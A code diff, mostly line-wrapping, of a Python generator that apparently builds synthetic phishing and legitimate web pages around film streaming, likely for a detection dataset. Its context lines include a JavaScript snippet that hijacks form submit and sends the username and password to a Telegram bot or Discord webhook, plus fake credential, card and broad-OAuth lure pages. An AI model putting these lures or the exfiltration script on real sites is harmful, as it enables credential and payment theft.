@@ -38,7 +38,10 @@ _MODAL_HEAD = {
         "Free registration is required to watch in HD. It takes 10 seconds.",
     ),
     "fr": ("Connectez-vous pour continuer", "Inscription gratuite requise pour regarder en HD."),
-    "es": ("Inicia sesión para seguir viendo", "El registro gratuito es obligatorio para ver en HD."),
+    "es": (
+        "Inicia sesión para seguir viendo",
+        "El registro gratuito es obligatorio para ver en HD.",
+    ),
     "de": ("Anmelden, um weiterzuschauen", "Kostenlose Registrierung für HD erforderlich."),
     "pt": ("Entre para continuar assistindo", "Cadastro grátis necessário para assistir em HD."),
     "id": ("Masuk untuk lanjut menonton", "Registrasi gratis diperlukan untuk menonton HD."),
@@ -63,9 +66,13 @@ _LANG_MENU = (
 
 
 def _page(lang: str, title: str, body: str, head_extra: str = "") -> str:
-    options = "".join(f'<option value="{i}">{esc(name)}</option>' for i, name in enumerate(_LANG_MENU))
+    options = "".join(
+        f'<option value="{i}">{esc(name)}</option>' for i, name in enumerate(_LANG_MENU)
+    )
     footer = (
-        '<div class="page-footer"><select aria-label="Change language" name="hl">' + options + "</select>"
+        '<div class="page-footer"><select aria-label="Change language" name="hl">'
+        + options
+        + "</select>"
         '<ul class="links"><li><a href="/help">Help</a></li><li><a href="/privacy">Privacy</a></li>'
         '<li><a href="/terms">Terms</a></li><li><a href="/cookies">Cookie preferences</a></li></ul></div>'
     )
@@ -91,7 +98,9 @@ def _player_url(rng: random.Random, host: str, film: Film | None, lang: str) -> 
     )
 
 
-def _player_body(rng: random.Random, lang: str, film: Film | None, how: str, host: str) -> tuple[str, str]:
+def _player_body(
+    rng: random.Random, lang: str, film: Film | None, how: str, host: str
+) -> tuple[str, str]:
     """(page title, player markup)."""
     site = host.split(".")[0].replace("-", " ").title()
     nav = (
@@ -105,7 +114,9 @@ def _player_body(rng: random.Random, lang: str, film: Film | None, how: str, hos
     t_html = disguise(form, how, rng)
     heads = STREAM[lang if lang in STREAM else "en"]["head"]
     if not film.watched and any(w.title == film.title for w in WATCHED):
-        heads = [h for h in heads if "{y}" in h]  # a same-name older film: only the year tells them apart
+        heads = [
+            h for h in heads if "{y}" in h
+        ]  # a same-name older film: only the year tells them apart
     h1 = fill(rng.choice(heads), t_html, y=film.year)
     info = (
         f'<div class="meta"><span class="q">HD 1080p</span> <span>{film.year}</span> '
@@ -128,7 +139,9 @@ def _labels(film: Film | None) -> tuple[bool, str | None]:
     return watched, (film.title if film is not None and watched else None)
 
 
-def player_page(rng: random.Random, lang: str, film: Film | None, lure: str, how: str = "plain") -> Page:
+def player_page(
+    rng: random.Random, lang: str, film: Film | None, lure: str, how: str = "plain"
+) -> Page:
     """A fake 'player' landing. lure: none|sso_lookalike|sso_samehost_form|form|card|obf:<how>|oauth_broad."""
     host = rng.choice(STREAM_HOSTS)
     url = _player_url(rng, host, film, lang)
@@ -191,7 +204,9 @@ def _player_lure(rng: random.Random, lang: str, lure: str, host: str) -> tuple[s
         ), f"password form posting to {action[:60]}"
     if lure == "card":
         action = kits.collector_action(rng)
-        return kits.card_form(rng, action, lang), f"'free account' with card fields posting to {action[:60]}"
+        return kits.card_form(
+            rng, action, lang
+        ), f"'free account' with card fields posting to {action[:60]}"
     if lure.startswith("obf:"):
         how = lure.split(":", 1)[1]
         form = kits.credential_form(rng, kits.collector_action(rng), rng.choice(provs), lang)
@@ -199,9 +214,7 @@ def _player_lure(rng: random.Random, lang: str, lure: str, host: str) -> tuple[s
             form, how, rng
         ), f"credential form built at runtime ({how})"
     prov = rng.choice(("Google", "Microsoft", "Facebook"))
-    redirect = (
-        f"https://{rng.choice(('auth.', 'api.', ''))}{rng.choice(STREAM_HOSTS)}/oauth/{prov.lower()}/callback"
-    )
+    redirect = f"https://{rng.choice(('auth.', 'api.', ''))}{rng.choice(STREAM_HOSTS)}/oauth/{prov.lower()}/callback"
     href = kits.oauth_url(rng, prov, redirect, broad=True)
     label = esc(f"Continue with {prov}")
     return (
@@ -265,7 +278,9 @@ def _exfil_js(rng: random.Random) -> tuple[str, str]:
         dest = f"https://api.telegram.org/bot{bot}/sendMessage"
         js = f"fetch('{dest}?chat_id=-100{rng.randint(10**9, 9 * 10**9)}&text='+encodeURIComponent(u+' | '+p));"
     else:
-        dest = f"https://discord.com/api/webhooks/{rng.randint(10**17, 10**18)}/{rand_token(rng, 68)}"
+        dest = (
+            f"https://discord.com/api/webhooks/{rng.randint(10**17, 10**18)}/{rand_token(rng, 68)}"
+        )
         js = f"fetch('{dest}',{{method:'POST',headers:{{'Content-Type':'application/json'}},body:JSON.stringify({{content:u+':'+p}})}});"
     script = (
         "<script>document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();"
@@ -378,7 +393,9 @@ def consent_lookalike_page(rng: random.Random, film: Film | None) -> Page:
             "See your primary email address",
         )
     )
-    film_line = f"<p>to continue to {esc(app)} and watch <b>{esc(film.forms[0])}</b></p>" if film else ""
+    film_line = (
+        f"<p>to continue to {esc(app)} and watch <b>{esc(film.forms[0])}</b></p>" if film else ""
+    )
     body = (
         f'<div class="consent"><div class="g-logo">Google</div><h1>{esc(app)} wants to access your Google Account</h1>'
         f'{film_line}<ul class="scopes">{scopes}</ul>'
@@ -602,7 +619,9 @@ def _legit_oauth_body(rng: random.Random, variant: str, host: str) -> tuple[str,
     if variant == "narrow_links":
         g = kits.oauth_url(rng, "Google", f"https://{host}/auth/google/callback", broad=False)
         f = kits.oauth_url(rng, "Facebook", f"https://{host}/auth/facebook/callback", broad=False)
-        m = kits.oauth_url(rng, "Microsoft", f"https://{host}/auth/microsoft/callback", broad=False)
+        m = kits.oauth_url(
+            rng, "Microsoft", f"https://{host}/auth/microsoft/callback", broad=False
+        )
         return (
             f'<a class="btn" href="{g}">Sign in with Google</a> <a class="btn" href="{f}">Continue with Facebook</a> '
             f'<a class="btn" href="{m}">Sign in with Microsoft</a>'
@@ -618,13 +637,16 @@ def _legit_oauth_body(rng: random.Random, variant: str, host: str) -> tuple[str,
         )
     if variant == "gsi":
         return (
-            '<script src="https://accounts.google.com/gsi/client" async></script>'
-            f'<div id="g_id_onload" data-client_id="{rng.randint(10**11, 10**12)}-{rand_token(rng, 32).lower()}.apps.googleusercontent.com" '
-            f'data-login_uri="https://{host}/auth/google/token" data-auto_prompt="false"></div>'
-            '<div class="g_id_signin" data-type="standard" data-text="signin_with"></div>'
-            '<script src="https://appleid.cdn-apple.com/appleauth/static/jsapi/appleid/1/en_US/appleid.auth.js"></script>'
-            f'<div id="appleid-signin" data-redirect-uri="https://{host}/auth/apple/callback" data-color="black"></div>'
-        ), "Google Identity Services + Sign in with Apple JS, login_uri/redirect on the site itself"
+            (
+                '<script src="https://accounts.google.com/gsi/client" async></script>'
+                f'<div id="g_id_onload" data-client_id="{rng.randint(10**11, 10**12)}-{rand_token(rng, 32).lower()}.apps.googleusercontent.com" '
+                f'data-login_uri="https://{host}/auth/google/token" data-auto_prompt="false"></div>'
+                '<div class="g_id_signin" data-type="standard" data-text="signin_with"></div>'
+                '<script src="https://appleid.cdn-apple.com/appleauth/static/jsapi/appleid/1/en_US/appleid.auth.js"></script>'
+                f'<div id="appleid-signin" data-redirect-uri="https://{host}/auth/apple/callback" data-color="black"></div>'
+            ),
+            "Google Identity Services + Sign in with Apple JS, login_uri/redirect on the site itself",
+        )
     if variant == "auth0":
         g = kits.oauth_url(
             rng, "Google", f"https://{host.split('.')[0]}.eu.auth0.com/login/callback", broad=False
@@ -658,10 +680,19 @@ def legit_oauth_page(rng: random.Random, variant: str) -> Page:
         f"<footer>&copy; <script>document.write(new Date().getFullYear())</script> {esc(host)}</footer>"
     )
     path = rng.choice(
-        ("/login", "/signin", "/account/login?next=%2F", "/users/sign_in", "/auth/login", "/member/login")
+        (
+            "/login",
+            "/signin",
+            "/account/login?next=%2F",
+            "/users/sign_in",
+            "/auth/login",
+            "/member/login",
+        )
     )
     url = (
-        f"https://{host}{path}" if variant != "broad_own_site" else "https://inboxzen.app/onboarding/connect"
+        f"https://{host}{path}"
+        if variant != "broad_own_site"
+        else "https://inboxzen.app/onboarding/connect"
     )
     return Page(
         "landing",
@@ -696,7 +727,11 @@ def _official_site(rng: random.Random, film: Film) -> tuple[str, str, str]:
         "<button>Sign up for updates</button></form>"
         '<script>var cfg=JSON.parse(atob("eyJyZWdpb24iOiJVUyIsImFuYWx5dGljcyI6dHJ1ZX0="));</script>'
     )
-    return url, body, "official film site: trailer, tickets, email newsletter, harmless atob() config"
+    return (
+        url,
+        body,
+        "official film site: trailer, tickets, email newsletter, harmless atob() config",
+    )
 
 
 def _streamer_title(rng: random.Random, film: Film) -> tuple[str, str, str]:
@@ -715,11 +750,17 @@ def _streamer_title(rng: random.Random, film: Film) -> tuple[str, str, str]:
         f"{rng.randint(100, 160)} min</p><p>Starring {esc(', '.join(film.cast))}.</p>"
         f'<a class="btn" href="https://{host}/signup">Start your subscription</a>'
     )
-    return url, body, f"legit streaming service title page ('Watch {film.forms[0]} | {film.streamer}')"
+    return (
+        url,
+        body,
+        f"legit streaming service title page ('Watch {film.forms[0]} | {film.streamer}')",
+    )
 
 
 def _ticket_checkout(rng: random.Random, film: Film) -> tuple[str, str, str]:
-    host = rng.choice(("tickets.grandrex-cinema.fr", "www.odeonplex-tickets.co.uk", "kino-am-markt.de"))
+    host = rng.choice(
+        ("tickets.grandrex-cinema.fr", "www.odeonplex-tickets.co.uk", "kino-am-markt.de")
+    )
     url = f"https://{host}/checkout/{rng.randint(100000, 999999)}"
     body = (
         f"<h1>Checkout: {esc(film.forms[0])} - 2 tickets</h1><p>Total: 24.90 EUR</p>"
@@ -729,10 +770,18 @@ def _ticket_checkout(rng: random.Random, film: Film) -> tuple[str, str, str]:
         '#componentName=card" title="Secure card payment input frame"></iframe></div>'
         '<button type="submit">Pay 24.90 EUR</button></form><script src="https://js.stripe.com/v3/"></script>'
     )
-    return url, body, "legit cinema ticket checkout, card entry in Stripe Elements iframe, posts to own host"
+    return (
+        url,
+        body,
+        "legit cinema ticket checkout, card entry in Stripe Elements iframe, posts to own host",
+    )
 
 
-LEGIT_SITES = {"official": _official_site, "streamer_title": _streamer_title, "tickets": _ticket_checkout}
+LEGIT_SITES = {
+    "official": _official_site,
+    "streamer_title": _streamer_title,
+    "tickets": _ticket_checkout,
+}
 
 
 def legit_site_page(rng: random.Random, variant: str, film: Film) -> Page:
